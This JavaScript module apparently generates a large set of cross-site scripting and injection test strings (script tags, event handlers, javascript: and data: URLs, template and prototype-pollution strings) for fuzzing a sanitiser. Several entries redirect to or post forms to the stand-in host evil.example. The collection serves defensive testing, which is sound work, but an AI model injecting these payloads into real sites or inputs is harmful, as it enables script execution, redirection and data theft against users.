/** More than a thousand texts that would do harm where text is taken for markup, code or an address. */

const CALLS = ["alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.alert(1)", "import('data:text/javascript,alert(1)')"];
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "ontoggle", "onmouseover", "onanimationend", "onbeforeinput"];
const TAGS = ["img src=x", "svg", "body", "video src=x", "details open", "input autofocus", "marquee", "iframe", "audio src=x", "object data=x"];
const BREAKS = ["", '"', "'", "</p>", "</textarea>", "-->", "]]>", "`", "${", "</script>", '">', "'/>", "\u0000", "\u2028", "\r\n"];
const SCHEMES = ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "\u0001javascript:", "data:text/html,", "vbscript:", "blob:", "file:///", "//evil.example/", "https:javascript:", "javascript://https://x%0a"];

const tags = TAGS.flatMap((tag) => EVENTS.flatMap((event) => CALLS.slice(0, 3).map((call) => `<${tag} ${event}=${call}>`)));
const scripts = BREAKS.flatMap((start) => CALLS.flatMap((call) => [`${start}<script>${call}</script>`, `${start}<svg><script>${call}</script></svg>`, `${start}<img src=x onerror="${call}">`, `${start}<a href="javascript:${call}">x</a>`]));
const addresses = SCHEMES.flatMap((scheme) => CALLS.flatMap((call) => [`${scheme}${call}`, `[x](${scheme}${call})`, `https://x.example/?q=${scheme}${call}`]));
const templates = ["{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<%= alert(1) %>", "#{alert(1)}", "{name}", "{count}", "{__proto__}", "%s%n", "__proto__", "constructor", "toString", "hasOwnProperty"];
const odd = ["<style>*{display:none}</style>", "<base href=//evil.example>", "<meta http-equiv=refresh content=0;//evil.example>", "<link rel=stylesheet href=//evil.example>", "<form action=//evil.example><button>", "<template shadowrootmode=open>x", "<sportello-chat open>", "<slot>", "\ud800 half a character", "\u202e right to left", "a".repeat(3000), "<".repeat(500), "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">"];
const mixed = BREAKS.flatMap((start) => tags.slice(0, 24).map((tag) => `${start}${tag}`));

/** The texts. */
export const payloads = [...new Set([...scripts, ...tags, ...addresses, ...templates, ...odd, ...mixed])];
